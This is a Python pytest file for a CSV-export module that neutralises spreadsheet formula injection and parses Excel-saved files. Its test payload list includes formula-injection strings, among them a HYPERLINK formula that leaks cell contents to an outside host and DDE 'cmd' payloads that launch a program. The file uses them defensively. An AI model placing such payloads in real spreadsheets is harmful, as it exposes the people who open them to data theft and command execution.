"""Excel-safe cells (RELIABILITY L 133-137) and reading back what Excel saved."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.curate.csvsafe import (
    EXCEL_CELL_LIMIT,
    TRIGGERS,
    TRUNCATION_MARKER,
    cell,
    csv_bytes,
    neutralise,
    read_table,
    unneutralise,
)

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"c")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\n=1+1",
    "\r\n+1",
]


def _reparse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_live(text: str) -> bool:
    """Would a spreadsheet evaluate this cell (even after trimming spaces)?"""
    return text.startswith(TRIGGERS) or text.lstrip(" \t\r\n").startswith(TRIGGERS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_inert_after_a_round_trip_through_a_file(payload: str) -> None:
    data = csv_bytes(["title"], [[cell(payload)]])
    (header, (value,)) = _reparse(data)
    assert header == ["title"]
    assert value.startswith("'") and not _is_live(value)
    assert unneutralise(value) == payload.replace("\x00", "")


def test_embedded_quotes_commas_newlines_keep_the_row_count() -> None:
    nasty = ['a "quoted", word', "line1\r\nline2", "x\x00y", "semi;colon"]
    data = csv_bytes(["v"], [[cell(v)] for v in nasty])
    rows = _reparse(data)[1:]
    assert [r[0] for r in rows] == ['a "quoted", word', "line1\r\nline2", "xy", "semi;colon"]


def test_our_typed_columns_are_not_prefixed() -> None:
    assert cell(-1.5) == "-1.5"
    assert cell(-3) == "-3"
    assert cell(True) == "yes" and cell(None) == ""
    assert cell("-sin prefijo", trusted=True) == "-sin prefijo"
    assert cell("-texto de fuera") == "'-texto de fuera"


def test_over_long_cells_are_truncated_with_a_marker() -> None:
    value = neutralise("x" * (EXCEL_CELL_LIMIT + 10))
    assert len(value) == EXCEL_CELL_LIMIT and value.endswith(TRUNCATION_MARKER)


def test_default_is_bom_and_crlf_and_plain_is_neither() -> None:
    excel = csv_bytes(["a", "b"], [["1", "2"]])
    plain = csv_bytes(["a", "b"], [["1", "2"]], plain=True)
    assert excel == "\ufeffa,b\r\n1,2\r\n".encode()
    assert plain == b"a,b\n1,2\n"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_any_text_is_inert_and_round_trips(text: str) -> None:
    data = csv_bytes(["v"], [[cell(text)]])
    rows = _reparse(data)
    assert len(rows) == 2
    value = rows[1][0] if rows[1] else ""
    assert not _is_live(value)
    assert unneutralise(value) == text.replace("\x00", "")


# ---------------------------------------------------------------- reading back


def test_excel_semicolon_bom_crlf_and_quotes_are_read() -> None:
    data = '\ufeffid;status;note\r\n12;included;"con ; punto"\r\n;;\r\n'.encode()
    table = read_table(data, expected=("id", "status"))
    assert table.delimiter == ";" and table.encoding == "utf-8"
    assert table.rows == ((2, {"id": "12", "status": "included", "note": "con ; punto"}),)


def test_windows_1252_and_utf16_files_are_decoded() -> None:
    ansi = read_table("id,note\r\n1,Información\r\n".encode("cp1252"))
    assert ansi.encoding == "cp1252" and ansi.rows[0][1]["note"] == "Información"
    wide = read_table("id\tnote\r\n1\tBogotá\r\n".encode("utf-16"))
    assert wide.delimiter == "\t" and wide.rows[0][1]["note"] == "Bogotá"


def test_row_numbers_are_the_spreadsheet_rows() -> None:
    data = b'id,note\n1,"two\nlines"\n\n3,x\n'
    assert [n for n, _ in read_table(data).rows] == [2, 4]
